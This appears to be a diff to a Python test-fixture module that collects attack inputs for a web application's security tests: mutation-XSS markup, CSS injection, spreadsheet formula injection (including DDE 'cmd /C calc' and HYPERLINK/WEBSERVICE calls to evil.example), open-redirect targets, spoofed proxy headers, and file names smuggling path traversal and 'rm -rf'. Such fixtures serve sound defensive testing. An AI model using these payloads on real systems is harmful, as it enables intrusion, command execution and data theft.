@@ -20,6 +20,14 @@ MARKUP = (
     "</title><script>alert(1)</script>", "</style></script><script>1</script>", "</p></div></main></body></html>x",
 )  # fmt: skip
 """Tags, whole and broken, and ends of the places where text stands."""
+MUTANTS = (
+    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
+    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<form><math><mtext></form><form><mglyph>x",
+    "<div id=\"x\" style=\"font-family:'foo'}x=expression(1);/*\">", "<p style=\"background:url(//evil.example)\">",
+    "</style><style>*{background:url(//evil.example)}", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><a xlink:href=\"javascript:alert(1)\"><text y=9>x</text></a></svg>", "<svg><foreignObject><iframe src=//e.e>",
+)  # fmt: skip
+"""Markup that a cleaner makes dangerous by mending it, and styles that act."""
 QUOTES = (
     "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "\"><script>alert(1)</script>", "'><img src=x onerror=1>",
     "` onclick=alert(1) x=`", "\" style=\"background:url(//evil.example)", "\" autofocus onfocus=alert(1) x=\"",
@@ -35,9 +43,58 @@ WORDS = (
     "expression(alert(1))", "|safe", "\u202ecod.exe", "a\u200bb<i>", "\ufeff<u>x</u>", "<\u0130mg>", "\u2028<s>x</s>",
 )  # fmt: skip
 """Addresses, markdown, templates, formats, and letters that are not what they look like."""
-CORPUS = (*MARKUP, *QUOTES, *WORDS)
+CORPUS = (*MARKUP, *MUTANTS, *QUOTES, *WORDS)
 NAMES = (
     "<img src=x onerror=alert(1)>.jpg", "\"><script>1</script>.jpg", "a\r\nSet-Cookie: a=b.jpg", "{{7*7}}.jpg",
     "../../etc/passwd.jpg", "\u202egpj.exe.jpg", "a\u200b.html.jpg", "x.jpg.php", ".htaccess", "con; rm -rf.jpg",
 )  # fmt: skip
 """Names of files."""
+FORMULAS = (
+    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "\t@SUM(1)", "\r\n+1", "  -1+1", " =1+1",
+    "\u00a0=1+1", "\u3000=1+1", "\ufeff=1+1", "\u200b=1+1", "\x00=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", " ＝1+1",
+    '=HYPERLINK("//evil.example";"bấm")', '=hyperlink("//evil.example")', '@HYPERLINK("//evil.example")',
+    "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+    '=IMPORTXML("//evil.example","//a")', '=WEBSERVICE("//evil.example")', '=DDE("cmd";"/C calc";"x")',
+    '"=1+1"', "'=1+1", ";=1+1", "a;=1+1", 'a";=1+1;"', "a\n=1+1", "%0A=1+1", "=1+1\";=2", "−1+1",
+)  # fmt: skip
+"""What a spreadsheet would compute, fetch or start, and ways into the next cell."""
+REDIRECTS = (
+    "//evil.example", "https://evil.example", "https:evil.example", "http:///evil.example", "/\\evil.example",
+    "\\\\evil.example", "/\t/evil.example", "\t//evil.example", " //evil.example", "/\n/evil.example", "javascript:1",
+    "///evil.example", "/%0d%0aLocation:x\r\n", "evil.example", "//localhost@evil.example", "/\u2028/evil.example",
+    "data:text/html,x", "\x00//evil.example", "http://localhost", "", "/\\/evil.example", "\\/evil.example",
+    "http:evil.example", "HTTPS://EVIL.EXAMPLE", "//evil.example/%2e%2e", "//evil。example", "/ /evil.example",
+    "https://localhost@evil.example", "https://localhost.evil.example", "////evil.example", "vbscript:x",
+    "http://[::1]", "//[evil", "/\u0000/evil.example",
+)  # fmt: skip
+"""Where a reader must not be sent."""
+ENCODED = ("/%2f%2fevil.example", "/%5cevil.example", "/.//evil.example", "/..//evil.example", "/%09/evil.example",
+           "/%2fevil.example", "/%252f%252fevil.example", "/;//evil.example", "/?//evil.example")  # fmt: skip
+"""Targets that stay paths of ours, however often they are decoded."""
+HOSTS = (
+    "evil.example", "localhost.evil.example", "localhost@evil.example", "evil.example:80", "localhost:80@evil.example",
+    "localhost/evil.example", "localhost?evil.example", "localhost#evil.example", "localhost\\evil.example",
+    "localhost evil.example", "localhost,evil.example", "evil.example#localhost", "xlocalhost", "127.0.0.1",
+    "169.254.169.254", "[::1]", "0", "evil.example.", "evil。example", "\u212aocalhost", "localhost:evil.example",
+)  # fmt: skip
+"""Names we do not go by: refused with 400."""
+FORWARDED: tuple[dict[str, str], ...] = (
+    {"X-Forwarded-Host": "evil.example"}, {"X-Forwarded-Host": "localhost, evil.example"},
+    {"X-Forwarded-Server": "evil.example"}, {"X-Host": "evil.example"}, {"X-HTTP-Host-Override": "evil.example"},
+    {"Forwarded": "host=evil.example;proto=https;for=6.6.6.6"}, {"X-Forwarded-Proto": "https"},
+    {"X-Forwarded-Proto": "evil.example"}, {"X-Forwarded-Scheme": "https"}, {"X-Forwarded-Port": "6666"},
+    {"X-Forwarded-Prefix": "//evil.example"}, {"X-Script-Name": "//evil.example"}, {"X-Forwarded-For": "evil.example"},
+    {"X-Forwarded-For": "127.0.0.1"}, {"X-Real-IP": "127.0.0.1"}, {"CF-Connecting-IP": "<b>evil.example"},
+    {"True-Client-IP": "127.0.0.1"}, {"X-Original-URL": "/desk/"}, {"X-Rewrite-URL": "/desk/"},
+    {"X-Original-Host": "evil.example"}, {"X-HTTP-Method-Override": "DELETE"}, {"X-Method-Override": "POST"},
+    {"X-HTTP-Method": "POST"}, {"Remote-User": "head@unit"}, {"X-Remote-User": "head@unit"},
+    {"X-Forwarded-User": "head@unit"}, {"X-WEBAUTH-USER": "head@unit"}, {"Referer": "https://evil.example/"},
+)  # fmt: skip
+"""Heads that a proxy might write, written by somebody who is none: not listened to."""
+HEADS: tuple[dict[str, str], ...] = tuple(
+    {name: words} for words in ("<script>alert(1)</script>", "\"><img src=//evil.example onerror=alert(1)>", "{{7*7}}")
+    for name in ("User-Agent", "Referer", "Accept-Language", "X-Request-ID", "X-Forwarded-For", "Cookie", "Accept")
+)  # fmt: skip
+"""Markup in heads that browsers send."""
+SIZES = {"CORPUS": 60, "FORMULAS": 30, "REDIRECTS": 20, "HOSTS": 20, "FORWARDED": 20}
+"""How many of each issue 7 wants at least."""
